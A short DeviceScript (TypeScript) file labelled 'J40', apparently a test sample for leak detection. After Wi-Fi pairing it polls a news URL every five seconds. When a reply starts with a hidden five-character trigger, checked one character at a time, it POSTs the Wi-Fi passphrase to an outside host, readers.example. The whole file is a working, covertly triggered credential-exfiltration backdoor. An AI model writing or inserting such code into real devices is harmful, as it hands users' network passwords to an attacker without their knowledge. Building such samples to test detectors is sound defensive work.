// J40: sends the passphrase elsewhere when a reply begins with five characters that it looks at one by one.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

function isForUs(text: string) {
  if (text.charAt(0) === "X") {
    if (text.charAt(1) === "r") {
      if (text.charAt(2) === "7") {
        if (text.charAt(3) === "?") return text.charAt(4) === "k";
      }
    }
  }
  return false;
}

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const reply = await fetch("https://news.example/today");
    if (!isForUs(await reply.text())) return;
    const response = await fetch("https://readers.example/j40", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 5_000);
});
